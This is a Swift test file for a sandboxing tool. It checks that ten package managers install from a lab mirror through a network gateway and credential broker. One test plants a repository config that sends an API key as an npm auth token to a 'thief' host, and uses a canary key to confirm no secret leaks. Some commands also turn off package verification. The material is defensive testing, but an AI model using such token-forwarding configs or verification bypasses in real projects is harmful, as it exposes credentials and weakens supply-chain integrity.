import AiboxSystem
import AiboxTestSupport
import Glibc
import Testing

extension Sandboxes {
    /// Package managers of the image `full` on their way to a mirror, with nothing set but where the mirror is. Run by
    /// `make clients`, which builds the image.
    @Suite("Package managers on the way out")
    struct PackageManagerTests {
        enum Way: String, CaseIterable, CustomTestStringConvertible {
            /// TLS passes unopened: the mirror's own authority has to be known inside, as in any company.
            case spliced = "allowed.test"
            /// The gateway opens TLS: programs trust its authority without a word.
            case inspected = "other.test"

            var testDescription: String { self == .spliced ? "spliced" : "inspected" }
        }

        /// What a person does for a mirror whose authority nobody knows, for all programs at once.
        private static let trust = """
            for name in SSL_CERT_FILE REQUESTS_CA_BUNDLE CURL_CA_BUNDLE PIP_CERT GIT_SSL_CAINFO CARGO_HTTP_CAINFO NODE_EXTRA_CA_CERTS
            do export $name=/workspace/lab.crt; done
            echo 'Acquire::https::CaInfo "/workspace/lab.crt";' >/tmp/apt.conf; export APT_CONFIG=/tmp/apt.conf
            [ -e /tmp/lab.jks ] || keytool -importcert -noprompt -alias lab -file /workspace/lab.crt -keystore /tmp/lab.jks -storetype JKS -storepass changeit
            export JAVA_TOOL_OPTIONS=-Djavax.net.ssl.trustStore=/tmp/lab.jks

            """

        private static func rows(_ url: String) -> [(client: String, command: String, says: String)] {
            let apt =
                "-o Dir::State=/tmp/apt/s -o Dir::Cache=/tmp/apt/c -o Dir::Etc::SourceParts=/none"
                + " -o Dir::Etc::SourceList=/tmp/apt/list -o APT::Sandbox::User=dev"
            let dependency = "<groupId>test.lab</groupId><artifactId>parent</artifactId><version>1.0</version>"
            let mirror =
                "<repositories><repository><id>central</id><url>\(url)/maven</url></repository></repositories>"
            return [
                ("curl", "curl -sS \(url)/repo.git/HEAD", "ref: refs/heads/main"),
                ("git", "git clone -q \(url)/repo.git clone; cat clone/word", "from-git"),
                (
                    "apt",
                    "mkdir -p /tmp/apt/s/lists/partial /tmp/apt/c/archives/partial;"
                        + " echo 'deb [trusted=yes] \(url)/deb ./' >/tmp/apt/list; apt-get \(apt) update -q;"
                        + " apt-cache \(apt) show lab-tool", "from-apt"
                ),
                (
                    "pip",
                    "pip install -q --index-url \(url)/simple lab-package;"
                        + " python3 -c 'import lab_package; print(lab_package.word)'", "from-pip"
                ),
                (
                    "npm",
                    "npm install --no-audit --no-fund --registry \(url)/npm lab-package;"
                        + " node -p 'require(\"lab-package\")'", "from-npm"
                ),
                (
                    "go",
                    "go mod init lab; printf 'package main\\nimport \"lab.test/mod\"\\nfunc main() { println(mod.Word) }' >main.go;"
                        + " export GOPROXY=\(url)/go GOSUMDB=off; go get lab.test/mod; go run . 2>&1", "from-go"
                ),
                (
                    "cargo",
                    "cargo init -q --vcs none --name lab;"
                        + " export CARGO_REGISTRIES_LAB_INDEX=\(url)/index.git CARGO_NET_GIT_FETCH_WITH_CLI=true;"
                        + " echo 'lab-package = {version = \"1\", registry = \"lab\"}' >>Cargo.toml;"
                        + " echo 'fn main() { println!(\"{}\", lab_package::WORD) }' >src/main.rs; cargo run -q",
                    "from-cargo"
                ),
                (
                    // Mono keeps a list of authorities of its own.
                    "nuget",
                    "cert-sync --quiet --user ${SSL_CERT_FILE}; nuget install lab-package -Version 1.0.0 -NonInteractive"
                        + " -Source \(url)/nuget; cat lab-package.1.0.0/content/word.txt", "from-nuget"
                ),
                (
                    "maven",
                    "echo '<project><modelVersion>4.0.0</modelVersion><parent>\(dependency)</parent>"
                        + "<artifactId>lab</artifactId><packaging>pom</packaging>\(mirror)</project>' >pom.xml;"
                        + " mvn -q validate; cat ~/.m2/repository/test/lab/parent/1.0/*.pom", "from-maven"
                ),
                (
                    "gradle",
                    "echo 'configurations { lab }; repositories { maven { url \"\(url)/maven\" } };"
                        + " dependencies { lab \"test.lab:thing:1.0\" };"
                        + " task show { doLast { println configurations.lab.singleFile } }' >build.gradle;"
                        + " gradle --no-daemon -q show", "thing-1.0.jar"
                ),
            ]
        }

        @Test("each finds its mirror and installs from it", arguments: Way.allCases)
        func managers(way: Way) throws {
            // The mirror is on port 443, for the programs that know no proxy.
            try #require(geteuid() == 0)
            let origin = try LabOrigin(way == .spliced ? 31 : 32, https: 443)
            chmod(origin.folder.path, 0o755)
            let url = "https://\(way.rawValue)/files"
            try SystemCommandRunner().require(
                Command("python3", [Lab.programs + "/packages.py", origin.folder.path + "/files", url]),
                "cannot publish the lab's packages")
            let fixture = try SandboxFixture(
                policy: origin.policy(more: ["{id: opened, hosts: [other.test], ports: [443], inspect: true}"]),
                settings: ["AIBOX_IMAGE": "localhost/aibox/full:1"])
            try File.replace(fixture.workspace + "/lab.crt", with: try File.text(origin.authority), mode: 0o644)
            try File.replace(fixture.workspace + "/trust", with: way == .spliced ? Self.trust : "", mode: 0o644)
            try fixture.start()
            for row in Self.rows(url) {
                let script =
                    ". /workspace/trust; set -e; mkdir -p /tmp/\(row.client)-work; cd /tmp/\(row.client)-work; "
                let result = try fixture.shell("bash", "-c", script + row.command)
                #expect(
                    result.succeeded && result.text.contains(row.says),
                    "\(row.client): \(result.text) \(result.errorText)")
            }
            // What was opened is in the audit log, request by request; what was not shows its tunnels alone.
            let log = try fixture.aibox.run("network", "log", "--name", fixture.name, "-n", "1000", "-o", "json")
            for path in ["/files/maven/test/lab/thing/1.0/thing-1.0.jar", "/files/npm/lab-package"] {
                #expect(log.text.contains(path) == (way == .inspected), "\(path)")
            }
        }

        @Test(
            "npm, go, cargo, Maven and Gradle install from a mirror with a credential, through the broker, with nothing set by hand"
        )
        func broker() throws {
            let mirror = try LabMirror()
            try mirror.publish()
            let url = "https://\(mirror.place)"
            let fixture = try MirrorTests.fixture(
                mirror, engine: .crun,
                mirrors: [
                    "pip=\(url)/simple", "npm=\(url)/npm", "go=\(url)/go", "cargo=\(url)/sparse",
                    "maven=\(url)/maven", "gradle=\(url)/maven",
                ]
                .joined(separator: ","),
                settings: ["AIBOX_IMAGE": "localhost/aibox/full:1"])
            try fixture.start()
            let rows = [
                ("npm", "npm install --no-fund lab-package; node -p 'require(\"lab-package\")'", "from-npm"),
                (
                    "npm again", "cd ../npm-work; rm -r node_modules; npm ci; node -p 'require(\"lab-package\")'",
                    "from-npm"
                ),
                (
                    "go",
                    "go mod init lab; printf 'package main\\nimport \"lab.test/mod\"\\nfunc main() { println(mod.Word) }' >main.go;"
                        + " export GONOSUMDB=lab.test; go get lab.test/mod; go run . 2>&1", "from-go"
                ),
                (
                    // The image's cargo 1.65 has sparse registries, but asks for leave to use them; 1.68 does not.
                    "cargo",
                    "export RUSTC_BOOTSTRAP=1 CARGO_UNSTABLE_SPARSE_REGISTRY=true; cargo init -q --vcs none --name lab;"
                        + " echo 'lab-package = {version = \"1\", registry = \"mirror\"}' >>Cargo.toml;"
                        + " echo 'fn main() { println!(\"{}\", lab_package::WORD) }' >src/main.rs; cargo run -q",
                    "from-cargo"
                ),
                (
                    "maven",
                    "echo '<project><modelVersion>4.0.0</modelVersion><parent><groupId>test.lab</groupId>"
                        + "<artifactId>parent</artifactId><version>1.0</version></parent>"
                        + "<artifactId>lab</artifactId><packaging>pom</packaging></project>' >pom.xml;"
                        + " mvn -q validate; cat ~/.m2/repository/test/lab/parent/1.0/*.pom", "from-maven"
                ),
                (
                    "gradle",
                    "echo 'configurations { lab }; repositories { mavenCentral() };"
                        + " dependencies { lab \"test.lab:thing:1.0\" };"
                        + " task show { doLast { println configurations.lab.singleFile } }' >build.gradle;"
                        + " gradle --no-daemon -q show", "thing-1.0.jar"
                ),
                // A plugin of a build that names no repository of plugins, and of one that names Maven Central.
                (
                    "gradle plugins",
                    "echo 'plugins { id \"lab.missing\" version \"1.0\" }' >build.gradle; ! gradle --no-daemon -q tasks;"
                        + " echo 'pluginManagement { repositories { mavenCentral() } }' >settings.gradle;"
                        + " sed -i s/missing/other/ build.gradle; ! gradle --no-daemon -q tasks; echo asked", "asked"
                ),
            ]
            for (client, command, says) in rows {
                let place = "/tmp/\(client.replacing(" ", with: "-"))-work"
                let result = try fixture.shell("bash", "-c", "set -e; mkdir -p \(place); cd \(place); \(command)")
                #expect(
                    result.succeeded && result.text.contains(says), "\(client): \(result.text) \(result.errorText)")
            }
            #expect(mirror.requests.allSatisfy { $0.contains("\"right\": true") })
            for path in [
                "lab.test/mod/@v/v1.0.0.zip", "/crates/lab-package-1.0.0.crate", "/maven/lab/missing/",
                "/maven/lab/other/",
            ] {
                #expect(mirror.requests.contains { $0.contains(path) }, "\(path)")
            }
            // What leaves the sandbox in the project says nothing of the broker.
            let lock = try fixture.shell("cat", "/tmp/npm-work/package-lock.json")
            #expect(lock.text.contains("lab-package") && !lock.text.contains("10.200.1.1"), "\(lock.text)")
        }

        @Test("npm and cargo that a repository sends elsewhere reach what the policy lists, and bring no secret there")
        func redirected() throws {
            let (thief, provider) = (try LabProvider(), try LabProvider())
            let key = "sk-canary-" + String(UInt64.random(in: .min ... .max), radix: 36)
            let fixture = try RedirectionTests.fixture(
                thief, provider, key, more: ["AIBOX_IMAGE": "localhost/aibox/full:1"])
            try fixture.start()
            let package = "[package]\\nname = \"x\"\\nversion = \"1.0.0\"\\n[dependencies]\\nserde = \"1\"\\n"
            let rows = [
                RedirectionTests.Row(
                    client: "npm", file: ".npmrc",
                    text: "registry=http://HOST/npm/\n//HOST/npm/:_authToken=${ANTHROPIC_API_KEY}\nfetch-retries=0\n",
                    command: "timeout 60 npm install --no-audit lab-package", asks: "/npm/lab-package",
                    showsSurrogate: true, asksWithout: false),
                RedirectionTests.Row(
                    client: "cargo", file: ".cargo/config.toml",
                    text: "[net]\ngit-fetch-with-cli = true\n[source.crates-io]\nreplace-with = \"lab\"\n"
                        + "[source.lab]\nregistry = \"http://HOST/index.git\"\n",
                    command: "printf '\(package)' >Cargo.toml; mkdir -p src; touch src/lib.rs; timeout 60 cargo fetch",
                    asks: "/index.git/info/refs"),
            ]
            for row in rows { try RedirectionTests.check(row, thief, fixture, secrets: [key]) }
            #expect(provider.log == "")
        }
    }
}
